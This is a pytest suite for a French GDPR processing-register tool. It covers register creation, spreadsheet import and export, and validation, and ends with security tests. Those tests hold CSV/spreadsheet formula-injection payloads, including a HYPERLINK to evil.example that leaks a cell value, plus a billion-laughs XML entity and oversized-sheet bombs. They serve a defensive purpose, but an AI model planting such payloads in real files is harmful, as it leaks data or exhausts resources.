"""Processing registers (Art. 30.2): init from conventions, spreadsheet round trip, cell-precise errors, checks."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
import yaml
from conftest import REGISTERS, require_program
from helpers import run

from dpa_kit.register import check_register, load_register
from dpa_kit.register_sheet import export, import_sheets, sheet_rows

BETHUNE_SIRET = "26620011900011"
ADIL_SIRET = "34309733300078"
SECURITY = [
    "pseudonymisation_encryption",
    "confidentiality_integrity_availability",
    "restore_access",
    "regular_testing",
]


def init(tmp_path: Path, siret: str = BETHUNE_SIRET) -> Path:
    out = tmp_path / "registre.yaml"
    result = run(
        "--registers",
        REGISTERS,
        "register",
        "init",
        "--siret",
        siret,
        "-o",
        out,
        env={"DPA_KIT_NOW": "2026-11-28T10:00"},
    )
    assert result.exit_code == 0, result.output
    return out


def test_init_is_complete_except_what_only_the_structure_knows(tmp_path: Path) -> None:
    register = load_register(init(tmp_path))
    category = register.categories()[0][1]
    assert category.convention == "2026-DPID-CCAS-BETHUNE-1.2"
    assert category.purposes and category.data_categories and category.data_subjects
    assert [s.name for s in category.subprocessors] == ["Hébergeur des dossiers sociaux (exemple)"]
    # Option 2: the four security headings come from the measures of the security annex the CCAS answers for.
    assert check_register(register, REGISTERS) == []
    security = category.security
    assert "Sauvegarder les données (CNIL-16) : sauvegarde quotidienne chiffrée" in security.restore_access
    assert "Chiffrer les données et garantir leur intégrité (CNIL-21)" in security.pseudonymisation_encryption
    assert "Sécuriser les serveurs (CNIL-09) (par son sous-traitant)" in security.confidentiality_integrity_availability
    assert security.regular_testing.endswith("(selon Annexe 4 - Sécurité et Confidentialité du 1er janvier 2026).")
    # Measures of the Département alone, and excluded ones, are not the structure's to describe.
    assert "CNIL-07" not in yaml.safe_dump(category.model_dump(mode="json"), allow_unicode=True)


def test_init_for_a_structure_without_dpo_also_asks_for_its_contact(tmp_path: Path) -> None:
    problems = check_register(load_register(init(tmp_path, ADIL_SIRET)))
    assert {p.field for p in problems} == {
        "processor.dpo",
        *(f"controllers[0].processings[0].security.{k}" for k in SECURITY),
    }


def test_init_unknown_siret(tmp_path: Path) -> None:
    result = run("--registers", REGISTERS, "register", "init", "--siret", "12345678900000", "-o", tmp_path / "r.yaml")
    assert result.exit_code == 2 and "aucune convention" in result.stderr


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_export_import_export_loses_nothing(tmp_path: Path, fmt: str) -> None:
    register = load_register(init(tmp_path))
    data = register.model_dump(mode="json")
    data["controllers"][0]["processings"][0]["security"] = {k: f"mesure {k} ; détail « é »" for k in SECURITY}
    data["controllers"][0]["processings"][0]["transfers"] = [
        {"country": "US", "recipient": "Éditeur", "safeguards": "CCT 2021"}
    ]
    data["controllers"].append(
        {
            "name": "Commune de Béthune",
            "address": "Place",
            "dpo": {"email": "dpo@bethune.example"},
            "processings": [
                {
                    "name": "Portage de repas",
                    "convention": "CONTRAT-REPAS-2026",
                    "purposes": ["livrer", "facturer"],
                    "data_categories": ["adresse"],
                    "data_subjects": ["bénéficiaires"],
                    "data_fate": "destroy",
                    "sensitive_data": ["health"],
                    "security": {k: "décrit" for k in SECURITY},
                }
            ],
        }
    )
    from dpa_kit.register import Register

    completed = Register.model_validate(data)
    sheet = tmp_path / f"r.{fmt}"
    sheet.write_bytes(export(completed, fmt))
    back = import_sheets(sheet)
    assert back == completed
    sheet2 = tmp_path / f"r2.{fmt}"
    sheet2.write_bytes(export(back, fmt))
    assert sheet_rows(import_sheets(sheet2)) == sheet_rows(completed)
    assert check_register(back) == []


def test_xlsx_has_frozen_header_notes_dropdown_protection_and_yellow_cells(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheet = tmp_path / "r.xlsx"
    # ADIL (security option 1): its security headings are left to the structure, hence yellow.
    sheet.write_bytes(export(load_register(init(tmp_path, ADIL_SIRET)), "xlsx"))
    book = load_workbook(sheet)
    processings = book["Traitements"]
    assert processings.freeze_panes == "A2"
    assert processings["D1"].comment is not None and "traitement" in processings["D1"].comment.text
    assert processings.protection.sheet
    assert processings["D2"].protection.locked  # from the convention
    security_col = next(c for c in processings[1] if c.value == "Pseudonymisation et chiffrement").column_letter
    assert not processings[f"{security_col}2"].protection.locked
    assert processings[f"{security_col}2"].fill.fgColor.rgb.endswith("FFF2CC")
    validations = processings.data_validations.dataValidation
    assert validations and "destruction" in validations[0].formula1
    assert "Notice" in book.sheetnames


def _edit_xlsx(path: Path, sheet: str, cell: str, value: object) -> None:
    from openpyxl import load_workbook

    book = load_workbook(path)
    book[sheet][cell] = value
    book.save(path)


@pytest.mark.parametrize(
    ("cell", "value", "message"),
    [
        ("K2", "destructoin", "feuille Traitements, cellule K2 : valeur « destructoin » non reconnue"),
        ("D2", None, "feuille Traitements, cellule D2 : « Traitement » est obligatoire"),
        ("E2", "31-12-2026", "feuille Traitements, cellule E2 : date attendue au format JJ/MM/AAAA"),
        ("I2", "santé mentale", "feuille Traitements, cellule I2 : donnée sensible « santé mentale » non reconnue"),
    ],
)
def test_bad_cells_give_cell_precise_errors_and_exit_2(tmp_path: Path, cell: str, value: object, message: str) -> None:
    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    _edit_xlsx(sheet, "Traitements", cell, value)
    result = run("register", "import", sheet, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2, result.output
    assert message in result.stderr
    assert not (tmp_path / "back.yaml").exists()


def test_dates_typed_as_text_in_french_format_are_accepted(tmp_path: Path) -> None:
    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    _edit_xlsx(sheet, "Traitements", "E2", "01/02/2026")
    assert import_sheets(sheet).categories()[0][1].start.isoformat() == "2026-02-01"


@pytest.mark.parametrize("fmt", ["csv", "html", "md", "pdf"])
def test_other_exports(tmp_path: Path, fmt: str) -> None:
    source = init(tmp_path)
    out = tmp_path / f"r.{fmt}"
    assert run("register", "export", source, "--format", fmt, "-o", out).exit_code == 0
    data = out.read_bytes()
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert text.count("\r\n") == 2 and "2026-DPID-CCAS-BETHUNE-1.2" in text
        assert out.read_bytes() == export(load_register(source), "csv")  # stable
    elif fmt == "pdf":
        assert data.startswith(b"%PDF")
    else:
        text = data.decode("utf-8")
        assert "REGISTRE DES CATÉGORIES D'ACTIVITÉS DE TRAITEMENT" in text and "Version 1" in text


def test_check_against_conventions_entry_missing_and_convention_ended(tmp_path: Path) -> None:
    source = init(tmp_path)
    data = yaml.safe_load(source.read_text(encoding="utf-8"))
    data["controllers"][0]["processings"] = []
    source.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = run("--registers", REGISTERS, "register", "check", source, env={"DPA_KIT_NOW": "2026-11-28T10:00"})
    assert result.exit_code == 1 and "n'a pas d'entrée dans le registre" in result.stdout
    ended = run(
        "--registers", REGISTERS, "register", "check", init(tmp_path / "b"), env={"DPA_KIT_NOW": "2027-02-01T10:00"}
    )
    assert ended.exit_code == 1 and "est terminée depuis le 31 décembre 2026" in ended.stdout


def test_consolidate(tmp_path: Path) -> None:
    from dpa_kit.tables import read_rows

    folder = tmp_path / "registres"
    folder.mkdir()
    init(tmp_path / "a").rename(folder / "bethune.yaml")
    init(tmp_path / "b", ADIL_SIRET).rename(folder / "adil.yaml")
    out = tmp_path / "conso.xlsx"
    result = run("register", "consolidate", folder, "-o", out)
    assert result.exit_code == 0, result.output
    rows = read_rows(out)
    by_structure = {row[0]: row for row in rows[1:]}
    assert by_structure["CCAS de Béthune"][7] == "données de santé"
    assert by_structure["ADIL du Nord et du Pas-de-Calais"][8] == "non"
    assert by_structure["ADIL du Nord et du Pas-de-Calais"][2] == "aucun"


def test_registers_of_a_folder_are_found_beside_conventions_and_a_bad_one_is_reported(tmp_path: Path) -> None:
    import shutil

    from dpa_kit.register import load_registers

    folder = tmp_path / "mixte"
    shutil.copytree(REGISTERS, folder)
    init(tmp_path / "a").rename(folder / "bethune.registre.yaml")
    broken = folder / "casse.registre.yaml"
    broken.write_text(
        (folder / "bethune.registre.yaml").read_text(encoding="utf-8").replace("siret:", "sirette:", 1),
        encoding="utf-8",
    )
    registers, problems = load_registers([folder])
    assert [r.processor.name for r in registers] == ["Centre Communal d'Action Sociale de Béthune"]
    assert problems and all(p.file == broken for p in problems)
    result = run("register", "consolidate", folder, "-o", tmp_path / "conso.csv", "--format", "csv")
    assert result.exit_code == 1 and "casse.registre.yaml" in result.stderr
    assert "1 registre(s)" in result.stdout


@pytest.mark.interop
def test_libreoffice_opens_both_spreadsheets(tmp_path: Path) -> None:
    soffice = require_program("soffice", "libreoffice")
    register = load_register(init(tmp_path))
    files = []
    for fmt in ("xlsx", "ods"):
        path = tmp_path / f"registre-{fmt}.{fmt}"
        path.write_bytes(export(register, fmt))
        files.append(path)
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path / "csv"),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    for path in files:
        text = (tmp_path / "csv" / f"{path.stem}.csv").read_text(encoding="utf-8", errors="replace")
        assert "SIRET" in text and BETHUNE_SIRET in text  # the first sheet, Structure, as LibreOffice read it


@pytest.mark.interop
def test_libreoffice_reads_the_ods_protection_unlocked_cells_and_list(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    soffice = require_program("soffice", "libreoffice")
    ods = tmp_path / "registre.ods"
    ods.write_bytes(export(load_register(init(tmp_path, ADIL_SIRET)), "ods"))  # option 1: security left to fill
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "x"),
            str(ods),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    sheet = load_workbook(tmp_path / "x" / "registre.xlsx")["Traitements"]
    assert sheet.protection.sheet
    assert sheet["D2"].protection.locked  # from the convention
    assert not sheet["L2"].protection.locked and sheet["L2"].fill.fgColor.rgb.endswith("FFF2CC")  # to fill
    formulas = [v.formula1 for v in sheet.data_validations.dataValidation]
    assert any("destruction" in f for f in formulas)


def test_import_accepts_sante_and_country_names_and_says_tableur(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    book = load_workbook(sheet)
    assert book["Sous-traitants"]["D2"].value == "France"  # countries by their French name
    book["Traitements"]["I2"] = "Santé\nNIR"
    book["Sous-traitants"]["D2"] = "états-unis"
    book.save(sheet)
    out = tmp_path / "back.yaml"
    result = run("register", "import", sheet, "-o", out)
    assert result.exit_code == 0, result.output
    category = load_register(out).categories()[0][1]
    assert [s.value for s in category.sensitive_data] == ["health", "nir"]
    assert category.subprocessors[0].country == "US"
    # one round of errors, each tied to its cell; no internal path, no pydantic wording
    book = load_workbook(sheet)
    book["Structure"]["B4"] = "12345678901234"
    book["Sous-traitants"]["D2"] = "Atlantide"
    book["Traitements"]["K2"] = "brûler"
    book.save(sheet)
    result = run("register", "import", sheet, "-o", tmp_path / "other.yaml")
    assert result.exit_code == 2
    assert result.stderr.startswith("Erreur dans le tableur :")
    assert "feuille Structure, cellule B4 : le SIRET « 12345678901234 » est invalide" in result.stderr
    assert "feuille Sous-traitants, cellule D2 : pays « Atlantide » non reconnu" in result.stderr
    assert "feuille Traitements, cellule K2" in result.stderr
    assert "Value error" not in result.stderr and "processor.siret" not in result.stderr


def test_import_never_replaces_a_register_edited_since_without_force(tmp_path: Path) -> None:
    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    out = tmp_path / "back.yaml"
    assert run("register", "import", sheet, "-o", out).exit_code == 0
    assert run("register", "import", sheet, "-o", out).exit_code == 0  # unchanged since written: replaced
    out.write_text(out.read_text(encoding="utf-8") + "# relu\n", encoding="utf-8")
    result = run("register", "import", sheet, "-o", out)
    assert result.exit_code == 2 and "--force" in result.stderr
    assert out.read_text(encoding="utf-8").endswith("# relu\n")
    assert run("register", "import", sheet, "-o", out, "--force").exit_code == 0


def test_xlsx_prints_landscape_fit_to_width_with_repeated_headers_and_a_sensitive_dropdown(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    book = load_workbook(sheet)
    processings = book["Traitements"]
    assert processings.page_setup.orientation == "landscape"
    assert processings.page_setup.fitToWidth == 1 and processings.sheet_properties.pageSetUpPr.fitToPage
    assert processings.print_title_rows == "$1:$1"
    formulas = [v.formula1 for v in processings.data_validations.dataValidation]
    assert any("Listes!" in f for f in formulas)
    assert next(row[0].value for row in book["Listes"].iter_rows()) == "données de santé"


def test_check_refuses_placeholder_measures_and_a_processing_without_convention(tmp_path: Path) -> None:
    path = init(tmp_path)
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    processing = data["controllers"][0]["processings"][0]
    processing["security"] = {
        "pseudonymisation_encryption": "aucun",
        "confidentiality_integrity_availability": "Non.",
        "restore_access": "néant",
        "regular_testing": "tests annuels de restauration",
    }
    processing["convention"] = None
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = run("register", "check", path)
    assert result.exit_code == 1
    assert "complet et cohérent" not in result.stdout
    assert "« aucun » ne décrit aucune mesure" in result.stdout and "« néant »" in result.stdout
    assert "« Non. »" in result.stdout
    assert "aucune convention ni contrat indiqué" in result.stdout


def test_ods_offers_the_sensitive_categories_as_a_list_and_reads_back(tmp_path: Path) -> None:
    import zipfile

    register = load_register(init(tmp_path))
    sheet = tmp_path / "r.ods"
    sheet.write_bytes(export(register, "ods"))
    content = zipfile.ZipFile(sheet).read("content.xml").decode("utf-8")
    assert 'table:name="dpa_sensitive"' in content and "données de santé" in content
    assert 'table:content-validation-name="dpa_sensitive"' in content
    assert import_sheets(sheet) == register


def test_flat_exports_name_subprocessors_and_countries_in_french(tmp_path: Path) -> None:
    from dpa_kit.register import Register, consolidated_rows
    from dpa_kit.register_sheet import csv_rows

    data = load_register(init(tmp_path)).model_dump(mode="json")
    processing = data["controllers"][0]["processings"][0]
    processing["subprocessors"] = [
        {"name": "Hébergeur Santé Nord", "country": "FR"},
        {"name": "VisioConnect Inc.", "country": "US"},
    ]
    processing["transfers"] = [{"country": "US", "recipient": "VisioConnect Inc.", "safeguards": "CCT 2021"}]
    register = Register.model_validate(data)
    header, rows = csv_rows(register)
    row = dict(zip(header, rows[0], strict=True))
    assert row["Sous-traitants"] == "Hébergeur Santé Nord (France) ; VisioConnect Inc. (États-Unis)"
    assert row["Transferts hors UE"] == "VisioConnect Inc. (États-Unis), garanties : CCT 2021"
    header, rows = consolidated_rows([register])
    row = dict(zip(header, rows[0], strict=True))
    assert row["Sous-traitants"] == "Hébergeur Santé Nord (France) ; VisioConnect Inc. (États-Unis)"
    assert row["Transferts hors UE"] == "VisioConnect Inc. (États-Unis)"
    text = export(register, "md").decode("utf-8")
    assert "Hébergeur Santé Nord (France)\u202f; VisioConnect Inc. (États-Unis)" in text
    assert "États-Unis, VisioConnect Inc." in text


# --- cells are data, never formulas (issue 13, point 1) -------------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?q="&A1;"Cliquez")', "=1+1", "+33 6 12 34 56 78", "-", "@x", "'=1+1"]


def _hostile_register(tmp_path: Path):  # type: ignore[no-untyped-def]
    from dpa_kit.register import Register

    data = load_register(init(tmp_path)).model_dump(mode="json")
    processing = data["controllers"][0]["processings"][0]
    processing["security"] = {k: HOSTILE[i] for i, k in enumerate(SECURITY)}
    processing["purposes"] = HOSTILE
    data["processor"]["dpo"] = {"name": "=1+1", "email": "dpo@ccas.example", "phone": "+33 6 12 34 56 78"}
    return Register.model_validate(data)


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_formula_like_values_are_written_as_text_and_read_back_exactly(tmp_path: Path, fmt: str) -> None:
    import zipfile

    register = _hostile_register(tmp_path)
    sheet = tmp_path / f"r.{fmt}"
    sheet.write_bytes(export(register, fmt))
    with zipfile.ZipFile(sheet) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    if fmt == "xlsx":
        assert b"<f>" not in xml and b"<f " not in xml  # no formula anywhere
        assert b"HYPERLINK" in xml
    else:
        assert b"table:formula" not in xml
    assert import_sheets(sheet) == register


def test_the_register_csv_neutralises_leading_formula_characters(tmp_path: Path) -> None:
    from dpa_kit.tables import read_rows

    out = tmp_path / "r.csv"
    out.write_bytes(export(_hostile_register(tmp_path), "csv"))
    import csv
    import io

    cells = [c for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";") for c in r]
    assert "'=HYPERLINK(" in "".join(cells) and not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    row = read_rows(out)[1]
    security = [row[i] for i in range(11, 15)]
    assert security == HOSTILE[:4]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_tables_of_the_consolidation_and_breach_register_hold_data_only(tmp_path: Path, fmt: str) -> None:
    from dpa_kit.tables import read_rows, write_table

    out = tmp_path / f"t.{fmt}"
    write_table(out, fmt, "Registre", ["A", "B"], [[v, 1] for v in HOSTILE] + [["\tx", None], ["\rx", -2]])
    rows = read_rows(out)
    assert [r[0] for r in rows[1:]] == [*HOSTILE, "\tx", "\rx"]
    if fmt == "csv":
        import csv
        import io

        cells = [c for r in csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";") for c in r]
        assert [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}] == ["-2"]  # a number stays a number
    if fmt == "xlsx":
        import zipfile

        with zipfile.ZipFile(out) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_consolidating_a_register_with_a_formula_writes_no_formula(tmp_path: Path) -> None:
    import zipfile

    from dpa_kit.register import dump

    folder = tmp_path / "registres"
    folder.mkdir()
    (folder / "r.yaml").write_text(dump(_hostile_register(tmp_path / "a")), encoding="utf-8")
    out = tmp_path / "conso.xlsx"
    assert run("register", "consolidate", folder, "-o", out).exit_code == 0
    with zipfile.ZipFile(out) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.interop
def test_libreoffice_does_not_compute_a_formula_written_by_a_structure(tmp_path: Path) -> None:
    from dpa_kit.tables import write_table

    soffice = require_program("soffice", "libreoffice")
    out = tmp_path / "t.xlsx"
    write_table(out, "xlsx", "Registre", ["A"], [["=1+1"], ['=HYPERLINK("http://evil.example";"Cliquez")']])
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "csv",
            "--outdir",
            str(tmp_path / "csv"),
            str(out),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    lines = (tmp_path / "csv" / "t.csv").read_text(encoding="utf-8", errors="replace").splitlines()
    assert lines[1] == "=1+1" and "HYPERLINK" in lines[2]


# --- hostile spreadsheets are refused cleanly, within bounds (issue 13, points 2 and 3) ------------


def _zip_with(path: Path, parts: dict[str, bytes]) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _rewrite_part(source: Path, target: Path, name: str, edit) -> Path:  # type: ignore[no-untyped-def]
    import zipfile

    with zipfile.ZipFile(source) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts[name] = edit(parts[name])
    return _zip_with(target, parts)


LAUGHS = b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n'


@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
def test_a_doctype_with_entities_is_refused_by_register_import(tmp_path: Path, fmt: str) -> None:
    source = tmp_path / f"r.{fmt}"
    source.write_bytes(export(load_register(init(tmp_path)), fmt))
    part = "xl/workbook.xml" if fmt == "xlsx" else "content.xml"
    bad = _rewrite_part(
        source,
        tmp_path / f"bad.{fmt}",
        part,
        lambda data: LAUGHS + data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else LAUGHS + data,
    )
    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2, result.output
    assert "DTD ou une entité" in result.stderr and "Traceback" not in result.output
    assert not (tmp_path / "back.yaml").exists()


def test_an_xlsx_cell_at_xfd1048576_is_refused_quickly(tmp_path: Path) -> None:
    source = tmp_path / "r.xlsx"
    source.write_bytes(export(load_register(init(tmp_path)), "xlsx"))

    def far_cell(data: bytes) -> bytes:
        import re

        data = re.sub(rb"<dimension [^>]*/>", b"", data)  # no declared size: counted while reading
        return data.replace(
            b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
        )

    bad = _rewrite_part(source, tmp_path / "bad.xlsx", "xl/worksheets/sheet2.xml", far_cell)
    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2, result.output
    assert "feuille Responsables : plus de 10000 lignes" in result.stderr and "refusé" in result.stderr


def test_an_xlsx_declaring_a_huge_dimension_is_refused(tmp_path: Path) -> None:
    import re

    source = tmp_path / "r.xlsx"
    source.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    bad = _rewrite_part(
        source,
        tmp_path / "bad.xlsx",
        "xl/worksheets/sheet2.xml",
        lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d),
    )
    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2 and "lignes déclarées (1048576)" in result.stderr


def test_an_ods_row_repeated_a_million_times_is_refused(tmp_path: Path) -> None:
    source = tmp_path / "r.ods"
    source.write_bytes(export(load_register(init(tmp_path)), "ods"))
    row = (
        b'<table:table-row table:number-rows-repeated="1000000"><table:table-cell office:value-type="string">'
        b"<text:p>x</text:p></table:table-cell></table:table-row>"
    )
    bad = _rewrite_part(
        source, tmp_path / "bad.ods", "content.xml", lambda d: d.replace(b"</table:table>", row + b"</table:table>", 1)
    )
    result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2, result.output
    assert "plus de 10000 lignes" in result.stderr


def test_trailing_empty_rows_repeated_by_libreoffice_are_fine(tmp_path: Path) -> None:
    source = tmp_path / "r.ods"
    register = load_register(init(tmp_path))
    source.write_bytes(export(register, "ods"))
    padding = (
        b'<table:table-row table:number-rows-repeated="1048000">'
        b'<table:table-cell table:number-columns-repeated="1024"/>'
        b"</table:table-row>"
    )
    padded = _rewrite_part(
        source,
        tmp_path / "padded.ods",
        "content.xml",
        lambda d: d.replace(b"</table:table>", padding + b"</table:table>"),
    )
    assert import_sheets(padded) == register


@pytest.mark.parametrize("ref", ["inf", "nan", "-inf", "1e400", "2.5"])
def test_a_non_integer_reference_is_a_cell_error(tmp_path: Path, ref: str) -> None:
    sheet = tmp_path / "r.xlsx"
    sheet.write_bytes(export(load_register(init(tmp_path)), "xlsx"))
    _edit_xlsx(sheet, "Traitements", "A2", ref)
    result = run("register", "import", sheet, "-o", tmp_path / "back.yaml")
    assert result.exit_code == 2, result.output
    assert "feuille Traitements, cellule A2 : nombre entier attendu" in result.stderr


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04garbage", b"not a zip at all" * 100])
def test_garbage_spreadsheets_are_refused(tmp_path: Path, data: bytes) -> None:
    for fmt in ("xlsx", "ods"):
        bad = tmp_path / f"bad.{fmt}"
        bad.write_bytes(data)
        result = run("register", "import", bad, "-o", tmp_path / "back.yaml")
        assert result.exit_code == 2, result.output
        assert "illisible" in result.stderr
